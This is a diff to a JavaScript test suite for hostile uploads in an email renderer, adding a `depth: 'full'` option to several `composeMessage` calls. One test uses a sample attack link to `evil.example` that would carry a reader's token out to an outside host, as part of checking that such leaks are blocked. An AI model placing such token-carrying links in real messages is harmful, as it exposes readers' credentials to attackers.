@@ -48,7 +48,7 @@ describe('hostile uploads', () => {
         const told = attackedBy(attack);
         const rendered = await render(told, { language });
         await expectNothingAlive(rendered.html);
-        const message = await composeMessage(told, rendered, { language, settings });
+        const message = await composeMessage(told, rendered, { language, settings, depth: 'full' });
         const parsed = await PostalMime.parse(
           personalize(message, {
             address: 'sam@readers.example.org',
@@ -90,7 +90,7 @@ describe('hostile uploads', () => {
     async (_name, attack) => {
       const told = attackedBy(attack);
       const rendered = await render(told);
-      const message = await composeMessage(told, rendered, { language: 'en', settings });
+      const message = await composeMessage(told, rendered, { language: 'en', settings, depth: 'full' });
       const mail = personalize(message, {
         address: 'sam@readers.example.org',
         token: TOKEN,
@@ -112,7 +112,11 @@ describe('hostile uploads', () => {
 
   it('cannot bring a reader’s token into a link of theirs', async () => {
     const told = attackedBy(`https://evil.example/?t=${PLACEHOLDER_TOKEN}`);
-    const message = await composeMessage(told, await render(told), { language: 'en', settings });
+    const message = await composeMessage(told, await render(told), {
+      language: 'en',
+      settings,
+      depth: 'full',
+    });
     const { html, text } = await PostalMime.parse(
       personalize(message, {
         address: 'sam@readers.example.org',
